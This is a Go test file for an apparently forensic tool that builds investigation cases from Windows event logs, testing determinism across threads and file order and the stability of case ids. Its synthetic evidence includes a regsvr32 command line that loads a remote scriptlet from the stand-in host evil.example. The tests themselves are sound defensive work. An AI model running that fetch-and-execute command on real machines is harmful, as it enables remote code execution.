package investigate

import (
	"context"
	"fmt"
	"slices"
	"testing"

	"reeve"
	"reeve/internal/evidence"
	"reeve/internal/simulate"
)

// TestTheResultDoesNotDependOnThreadsOrOrder: the same evidence gives the same result, to the last letter, whoever reads it in
// whatever order.
func TestTheResultDoesNotDependOnThreadsOrOrder(t *testing.T) {
	rules := sigmaRule(t, connects, tracing, renamed)
	dir := t.TempDir()
	var paths []string
	for _, x := range awkward(t) {
		path := dir + "/" + x.Path
		save(t, path, x.Data)
		paths = append(paths, path)
	}
	want := ""
	for _, threads := range []int{1, 2, 7} {
		for turn := range 3 {
			list := slices.Clone(paths)
			if turn == 1 {
				slices.Reverse(list)
			} else if turn == 2 {
				list = append(list[len(list)/2:], list[:len(list)/2]...)
			}
			set, err := evidence.Open(list, evidence.Options{})
			if err != nil {
				t.Fatal(err)
			}
			inv, err := Run(context.Background(), set, Options{Threads: threads, Rules: rules, Subjects: named(t, "notepad.exe"), Recover: true})
			set.Close()
			if err != nil {
				t.Fatal(err)
			}
			got := digest(inv)
			if want == "" {
				want = got
				if len(inv.Cases) < 3 || len(inv.Gaps) == 0 || len(inv.Records) < 20 {
					t.Fatalf("too little to prove anything: %d cases, %d gaps, %d records", len(inv.Cases), len(inv.Gaps), len(inv.Records))
				}
			}
			if got != want {
				t.Errorf("%d threads, order %d: %s", threads, turn, firstDifference(want, got))
			}
		}
	}
}

// awkward is evidence in which much could go by chance: copies, several formats, parents of which children disagree, logs of one
// host under several names, records without ids, times or hosts.
func awkward(t *testing.T) []simulate.File {
	var out []simulate.File
	add := func(name string, data []byte) { out = append(out, simulate.File{Path: name, Data: data}) }
	log := story()
	add("a.evtx", asEVTX(t, log))
	add("b.json", asJSON(t, moved(log, "PC")))
	add("c.evtx", asEVTX(t, append(log[10:20:20], deed(11, "10:03:00", 400, payload, "TargetFilename", `C:\Users\ann\next.dll`).numbered(99))))
	var loose []record
	for _, r := range story() {
		loose = append(loose, r.numbered(none).on(""))
	}
	add("d.json", asJSON(t, loose))
	regsvr, rundll := `C:\Windows\System32\regsvr32.exe`, `C:\Windows\System32\rundll32.exe`
	for i := range 4 { // which children of one parent disagree about
		child := starts(fmt.Sprintf("11:00:%02d", i), 700+i, `C:\Windows\System32\whoami.exe`, "whoami", 690, []string{regsvr, rundll}[i%2])
		add(fmt.Sprintf("child%d.evtx", i), asEVTX(t, []record{child.numbered(uint64(50+i)).with("ParentCommandLine",
			[]string{"regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll", "rundll32.exe a.dll,b"}[i%2])}))
	}
	add("security.evtx", asEVTX(t, []record{audited("10:00:10", 300, tracer, 200, shell), audited("12:00:00", 300, shell, 200, desktop),
		{"Microsoft-Windows-Eventlog", "Security", 1102, "pc", clock("12:30:00"), 0, []string{"SubjectUserName", "ann"}}}))
	torn := asEVTX(t, moved(story(), "pc4"))
	copy(torn[len(torn)/2:], make([]byte, 300))
	add("torn.evtx", torn)
	return out
}

// TestLaterEvidenceChangesNoID: a case keeps its id while the evidence grows.
func TestLaterEvidenceChangesNoID(t *testing.T) {
	ids := func(inv *reeve.Investigation) (out []string) {
		for _, c := range inv.Cases {
			out = append(out, c.ID)
		}
		slices.Sort(out)
		return out
	}
	for _, c := range []struct {
		why string
		log []record
	}{
		{"with GUIDs", day()},
		{"by pid", []record{audited("10:00:10", 300, tracer, 200, shell)}},
		{"told by a child", day()[3:]},
		{"known by its deeds", []record{deed(3, "10:00:00", 300, tracer, "DestinationIp", "203.0.113.7")}},
		{"known by its deeds and pid", []record{deed(3, "10:00:00", 300, tracer, "DestinationIp", "203.0.113.7").without("ProcessGuid")}},
	} {
		before := ids(logs{"a.evtx": c.log}.run(t, Options{}))
		if len(before) != 1 || len(before[0]) != 16 {
			t.Fatalf("%s: cases %q", c.why, before)
		}
		again := starts("2024-05-09 10:00:00", 900, tracer, "mftrace.exe "+payload, 100, desktop)
		after := ids(logs{"a.evtx": c.log, "later.evtx": {again, deed(3, "2024-05-09 10:00:01", 300, tracer, "DestinationIp", "203.0.113.9"), audited("2024-05-09 11:00:00", 300, shell, 4, "")}}.run(t, Options{}))
		if !slices.Contains(after, before[0]) {
			t.Errorf("%s: the case was %s, now there are %q", c.why, before[0], after)
		}
	}
}

// TestTwoStrangersOfOnePidAreTwoCases: without a start only the time tells them apart.
func TestTwoStrangersOfOnePidAreTwoCases(t *testing.T) {
	boot := record{"Microsoft-Windows-Kernel-General", "System", 12, "pc.corp.example", clock("11:00:00"), 0, []string{"MajorVersion", "10"}}
	strange := func(at string) record {
		return deed(3, at, 300, tracer, "DestinationIp", "203.0.113.7").without("ProcessGuid")
	}
	inv := logs{"a.json": {strange("10:00:00"), boot, strange("12:00:00")}}.run(t, Options{All: true})
	seen := map[string]bool{}
	for _, c := range inv.Cases {
		if seen[c.ID] {
			t.Errorf("two cases have the id %s", c.ID)
		}
		seen[c.ID] = true
	}
}
